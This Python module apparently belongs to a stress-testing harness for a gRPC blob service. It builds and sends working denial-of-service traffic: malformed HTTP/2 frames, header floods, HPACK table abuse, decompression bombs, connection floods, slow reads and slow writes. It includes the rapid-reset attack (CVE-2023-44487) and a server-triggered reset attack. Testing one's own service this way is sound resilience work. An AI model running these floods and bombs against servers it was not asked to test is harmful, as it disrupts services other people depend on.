"""Hostile frames: connections, streams and messages that are unfinished, endless, too many, or none."""

from __future__ import annotations

import asyncio
import gzip
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import suppress
from functools import cache, partial

from hostile import http2
from hostile.attacker import Attacker, Member, together
from hostile.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW,
    MAX_FRAME,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    call_headers,
    connection,
    frame,
    literal,
    prefixed,
    settings,
)
from hostile.wire import field, message

REST_SECONDS = 1.0
UNFINISHED_SECONDS = 15
GET_BLOB = "/blobhub.v1.BlobService/GetBlob"
PUT_OBJECT = "/blobhub.v1.SessionObjectService/PutSessionObject"
WATCH_SESSION = "/blobhub.v1.SessionService/WatchSession"
CALL = call_headers(GET_BLOB)

BEGINNINGS = {
    "silence": b"",
    "half a preface": PREFACE[:9],
    "a preface and silence": PREFACE,
    "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "HTTP/1.1 without an end": b"GET /" + b"a" * 1_000_000,
    "a TLS hello": bytes.fromhex("16030100c8010000c40303") + bytes(193),
    "SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
    "noise": bytes(range(256)) * 4_000,
    "zeros": bytes(1_000_000),
    "a preface twice": PREFACE * 2,
    "a preface and HTTP/1.1": PREFACE + b"GET / HTTP/1.1\r\n\r\n",
}
"""What a connection may begin with instead."""


def _headers(block: bytes, stream: int = 1, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, stream, block, flags)


FRAMES: dict[str, Callable[[], bytes]] = {
    "20,000 pings": lambda: frame(PING, payload=bytes(8)) * 20_000,
    "20,000 answers to pings": lambda: frame(PING, payload=bytes(8), flags=ACK) * 20_000,
    "20,000 settings": lambda: settings((INITIAL_WINDOW, 65_535)) * 20_000,
    "20,000 answers to settings": lambda: frame(SETTINGS, flags=ACK) * 20_000,
    "settings of 2,000 entries": lambda: settings(*[(0xFFFF, number) for number in range(2_000)]) * 50,
    "settings beyond their bounds": lambda: settings((INITIAL_WINDOW, 0xFFFFFFFF), (MAX_FRAME, 1)),
    "windows that open and close": lambda: b"".join(settings((INITIAL_WINDOW, n % 2)) for n in range(5_000)),
    "20,000 priorities": lambda: b"".join(frame(PRIORITY, 2 * n + 1, bytes(5)) for n in range(20_000)),
    "a stream that depends on itself": lambda: frame(PRIORITY, 1, b"\x00\x00\x00\x01\xff") * 100,
    "20,000 windows": lambda: frame(WINDOW_UPDATE, 0, b"\x00\x00\x00\x01") * 20_000,
    "a window of nothing": lambda: frame(WINDOW_UPDATE, 0, bytes(4)),
    "a window that overflows": lambda: frame(WINDOW_UPDATE, 0, b"\x7f\xff\xff\xff") * 2,
    "frames of unknown kinds": lambda: frame(0xEE, 1, bytes(1_000)) * 2_000,
    "a frame of 16 MiB": lambda: frame(DATA, 1, bytes(100_000), length=0xFFFFFF),
    "a frame of headers of 16 MiB": lambda: frame(HEADERS, 1, b"a" * 100_000, END_HEADERS, length=0xFFFFFF),
    "data of no stream": lambda: frame(DATA, 0, bytes(100)),
    "data of a stream that is not open": lambda: frame(DATA, 7, bytes(100)),
    "headers of no stream": lambda: _headers(CALL, 0),
    "headers of a server's stream": lambda: _headers(CALL, 2),
    "streams that go backwards": lambda: _headers(CALL, 9) + _headers(CALL, 5),
    "one stream twice": lambda: _headers(CALL, 1) * 2,
    "a promise": lambda: frame(PUSH_PROMISE, 1, bytes(4) + CALL, END_HEADERS),
    "a farewell, and calls": lambda: frame(GOAWAY, 0, bytes(8)) + _headers(CALL, 1),
    "20,000 farewells": lambda: frame(GOAWAY, 0, bytes(8)) * 20_000,
    "resets of streams that there are not": lambda: b"".join(frame(RST_STREAM, 2 * n + 1, bytes(4)) for n in range(10_000)),
    "empty data without end": lambda: _headers(CALL) + frame(DATA, 1) * 20_000,
    "data of padding": lambda: _headers(CALL) + frame(DATA, 1, b"\xff" + bytes(255), PADDED) * 200,
    "padding that is longer than its frame": lambda: _headers(CALL) + frame(DATA, 1, b"\xff\x00", PADDED),
    "headers that go on without end": lambda: (
        frame(HEADERS, 1, CALL) + frame(CONTINUATION, 1, literal(b"x", b"a" * 4_000)) * 2_000
    ),
    "empty headers that go on without end": lambda: frame(HEADERS, 1, CALL) + frame(CONTINUATION, 1) * 20_000,
    "headers that do not go on": lambda: frame(HEADERS, 1, CALL) + frame(PING, payload=bytes(8)),
    "a continuation of nothing": lambda: frame(CONTINUATION, 1, CALL, END_HEADERS),
    "1,400 small headers": lambda: _headers(CALL + b"".join(literal(b"x-%d" % n, b"a") for n in range(1_400))),
    "a header of 16,000 signs": lambda: _headers(CALL + literal(b"x", b"a" * 16_000)),
    "headers without names": lambda: _headers(CALL + literal(b"", b"a") * 500),
    "headers in capitals": lambda: _headers(CALL + literal(b"X-Some", b"a") * 500),
    "headers of controls": lambda: _headers(CALL + literal(b"x-\x00\r\n", b"\r\n\x00") * 500),
    "one remembered header, many times": lambda: (
        _headers(CALL + literal(b"x", b"a" * 4_000, indexed=True)) + _headers(CALL + b"\xbe" * 16_000, 3)
    ),
    "a table that is remembered anew": lambda: _headers(CALL + literal(b"x", b"a" * 3_000, indexed=True) * 5),
    "an index that there is not": lambda: _headers(CALL + b"\xff\xff\xff\x0f"),
    "a number without end": lambda: _headers(CALL + b"\x7f" + b"\xff" * 10_000),
    "a table of four gigabytes": lambda: _headers(b"\x3f\xe1\xff\xff\xff\x0f" + CALL),
    "bytes that are no headers": lambda: _headers(b"\xff" * 10_000),
    "no path": lambda: _headers(CALL.replace(b":path", b":patx")),
    "a path of 8,000 signs": lambda: _headers(call_headers("/" + "a" * 8_000)),
    "a path of slashes": lambda: _headers(call_headers("/" * 5_000), flags=END_HEADERS | END_STREAM),
    "GET": lambda: _headers(CALL.replace(b"POST", b"GET!")),
    "another type of content": lambda: _headers(CALL.replace(b"application/grpc", b"application/json")),
    "a timeout that is none": lambda: _headers(call_headers(GET_BLOB, ("grpc-timeout", "9" * 5_000 + "H"))),
    "a compression that there is not": lambda: (
        _headers(call_headers(GET_BLOB, ("grpc-encoding", "brotli")))
        + frame(DATA, 1, prefixed(b"x", compressed=1), END_STREAM)
    ),
}
"""What may follow a connection's beginning, as bytes that are sent as they are."""

RAW_MESSAGES: dict[str, Callable[[], bytes]] = {
    "of four gigabytes": lambda: prefixed(b"x" * 1_000, length=0xFFFFFFFF),
    "of five megabytes": lambda: prefixed(b"x" * 1_000, length=5 << 20),
    "compressed without a compression": lambda: prefixed(gzip.compress(b"x" * 1_000), compressed=1),
    "of a mark that there is not": lambda: prefixed(b"x", compressed=7),
    "that is cut": lambda: prefixed(b"x" * 1_000, length=2_000),
    "of half a prefix": lambda: b"\x00\x00",
    "twenty thousand, empty": lambda: prefixed(b"") * 10_000,
    "two": lambda: prefixed(b"") * 2,
}
"""Messages as they stand in a stream of data; the stream ends behind them."""


@cache
def _zeros(mebibytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    part = bytes(1 << 20)
    return b"".join([*(packer.compress(part) for _ in range(mebibytes)), packer.flush()])


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "of 4 MiB of zeros": ("gzip", lambda: _zeros(4)),
    "of 64 MiB of zeros": ("gzip", lambda: _zeros(64)),
    "of 256 MiB of zeros": ("gzip", lambda: _zeros(256)),
    "of 4 MiB of nulls": ("gzip", lambda: gzip.compress(field(3, field(6, field(1, field(1, 0)) * 900_000)))),
    "in a bomb": ("gzip", lambda: gzip.compress(_zeros(256))),
    "that is cut": ("gzip", lambda: _zeros(64)[:-8]),
    "that is none": ("gzip", lambda: bytes(range(256)) * 100),
    "of 64 MiB, deflated": ("deflate", lambda: zlib.compress(bytes(64 << 20), 9)),
    "of many parts": ("gzip", lambda: gzip.compress(bytes(1 << 20)) * 500),
}
"""Messages that are compressed."""


def members() -> Iterator[Member]:
    """Each on connections of its own, beside nothing that is honest."""
    for name, begun in BEGINNINGS.items():
        yield _member(f"a connection that begins with {name}", partial(_begin, begun))
    for name, make in FRAMES.items():
        yield _member(name, partial(_frames, make))
    for name, make in RAW_MESSAGES.items():
        yield _member(f"a message {name}", partial(_message, make))
    for name, (encoding, make) in BOMBS.items():
        yield _member(f"a bomb {name}", partial(_bomb, encoding, make))
    for name, attack in CROWDS.items():
        yield _member(name, attack)


def _member(name: str, attack: Callable[[Attacker], Awaitable[object]]) -> Member:
    return Member(kind="frame", name=name, content=partial(str, name), attack=attack)


async def _begin(begun: bytes, attacker: Attacker) -> None:
    """Fifty connections."""

    async def connect() -> None:
        async with connection(attacker.address, first=[begun]) as made:
            await made.rest(REST_SECONDS)

    await together(*(connect() for _ in range(50)))


async def _frames(make: Callable[[], bytes], attacker: Attacker) -> None:
    """Four connections."""
    sent = make()

    async def connect() -> None:
        async with connection(attacker.address) as made:
            await made.send(sent)
            await made.rest(REST_SECONDS)

    await together(*(connect() for _ in range(4)))


async def _message(make: Callable[[], bytes], attacker: Attacker) -> None:
    """Twenty calls."""
    await _calls(attacker, 20, call_headers(GET_BLOB, key=attacker.api.key), make())


async def _bomb(encoding: str, make: Callable[[], bytes], attacker: Attacker) -> None:
    """Four calls, with a key and without."""
    sent = prefixed(make(), compressed=1)
    for key in (attacker.api.key, None):
        await _calls(attacker, 4, call_headers(PUT_OBJECT, ("grpc-encoding", encoding), key=key), sent)


async def _calls(attacker: Attacker, count: int, block: bytes, sent: bytes) -> None:
    async with connection(attacker.address) as made:
        for _ in range(count):
            stream = made.new_stream()
            await made.send(frame(HEADERS, stream, block, END_HEADERS))
            await made.send_data(stream, sent)
            await made.send(frame(DATA, stream, b"", END_STREAM))
        await made.rest(REST_SECONDS)


async def _opened(made: Connection, block: bytes, count: int) -> AsyncIterator[int]:
    for _ in range(count):
        stream = made.new_stream()
        if not await made.send(frame(HEADERS, stream, block, END_HEADERS)):
            return
        yield stream


async def _rapid_reset(attacker: Attacker) -> None:
    """Streams that are opened and reset at once (CVE-2023-44487)."""

    async def connect() -> None:
        async with connection(attacker.address) as made:
            for _ in range(100):
                streams = [made.new_stream() for _ in range(100)]
                pairs = [frame(HEADERS, n, CALL, END_HEADERS) + frame(RST_STREAM, n, b"\x00\x00\x00\x08") for n in streams]
                if not await made.send(*pairs):
                    return
            await made.rest(REST_SECONDS)

    await together(*(connect() for _ in range(4)))


async def _reset_by_the_server(attacker: Attacker) -> None:
    """Streams that the server is made to reset (CVE-2025-8671)."""
    wrong = frame(WINDOW_UPDATE, 1, bytes(4))
    async with connection(attacker.address) as made:
        async for stream in _opened(made, CALL, 5_000):
            await made.send(wrong[:5] + stream.to_bytes(4, "big") + wrong[9:])
        await made.rest(REST_SECONDS)


async def _unfinished(attacker: Attacker, *, count: int, mebibytes: float, key: str | None) -> None:
    """Messages of which the last byte does not come."""
    part = prefixed(b"x" * int(mebibytes * (1 << 20)), length=(4 << 20) - 10)
    with suppress(TimeoutError):
        async with asyncio.timeout(UNFINISHED_SECONDS), connection(attacker.address) as made:
            async for stream in _opened(made, call_headers(PUT_OBJECT, key=key), count):
                if not await made.send_data(stream, part):
                    break
            await made.rest(3 * REST_SECONDS)


async def _streams_without_messages(attacker: Attacker) -> None:
    async with connection(attacker.address) as made:
        async for _ in _opened(made, call_headers(PUT_OBJECT, key=attacker.api.key), 1_500):
            pass
        await made.rest(3 * REST_SECONDS)


async def _byte_by_byte(attacker: Attacker) -> None:
    async with connection(attacker.address) as made:
        async for stream in _opened(made, call_headers(GET_BLOB, key=attacker.api.key), 10):
            for byte in prefixed(message("GetBlob", blob="a" * 100)):
                await made.send(frame(DATA, stream, bytes([byte])))
        await made.rest(REST_SECONDS)


async def _unread(attacker: Attacker, *, window: int) -> None:
    """Watches of a session with large objects in its log, whose answers nobody reads."""
    sent = prefixed(message("WatchSession", session=attacker.session))
    async with connection(attacker.address, first=[PREFACE, settings((INITIAL_WINDOW, window))]) as made:
        async for stream in _opened(made, call_headers(WATCH_SESSION, key=attacker.api.key), 200):
            await made.send_data(stream, sent)
            await made.send(frame(DATA, stream, b"", END_STREAM))
        await made.rest(5 * REST_SECONDS)


async def _read_byte_by_byte(attacker: Attacker) -> None:
    sent = prefixed(message("WatchSession", session=attacker.session))
    async with connection(attacker.address, first=[PREFACE, settings((INITIAL_WINDOW, 1))]) as made:
        async for stream in _opened(made, call_headers(WATCH_SESSION, key=attacker.api.key), 20):
            await made.send_data(stream, sent)
            await made.send(frame(DATA, stream, b"", END_STREAM))
        for number in range(4_000):
            await made.send(frame(WINDOW_UPDATE, number % 20 * 2 + 1, b"\x00\x00\x00\x01"))
        await made.rest(REST_SECONDS)


async def _connections(attacker: Attacker) -> None:
    """Six hundred connections at once, each with one call."""

    async def connect() -> None:
        async with connection(attacker.address) as made:
            await made.send(frame(HEADERS, 1, CALL, END_HEADERS), frame(DATA, 1, prefixed(b""), END_STREAM))
            await made.rest(REST_SECONDS)

    await together(*(connect() for _ in range(600)))


async def _half_closed(attacker: Attacker) -> None:
    """Calls whose connection is gone before they are answered."""
    sent = frame(DATA, 1, prefixed(message("GetBlob", blob=attacker.blob)), END_STREAM)
    for _ in range(300):
        async with connection(attacker.address) as made:
            await made.send(frame(HEADERS, 1, call_headers(GET_BLOB, key=attacker.api.key), END_HEADERS), sent)


CROWDS: dict[str, Callable[[Attacker], Awaitable[object]]] = {
    "rapid resets": _rapid_reset,
    "resets that the server is made to send": _reset_by_the_server,
    "100 unfinished messages of 3 MiB without a key": partial(_unfinished, count=100, mebibytes=3, key=None),
    "400 unfinished messages of 1 MiB without a key": partial(_unfinished, count=400, mebibytes=1, key=None),
    "1,000 unfinished messages of 100 KiB without a key": partial(_unfinished, count=1_000, mebibytes=0.1, key=None),
    "1,500 streams without a message": _streams_without_messages,
    "messages byte by byte": _byte_by_byte,
    "200 streams that nobody reads": partial(_unread, window=http2.WINDOW),
    "200 streams without a window": partial(_unread, window=0),
    "streams that are read byte by byte": _read_byte_by_byte,
    "six hundred connections": _connections,
    "calls that nobody waits for": _half_closed,
}
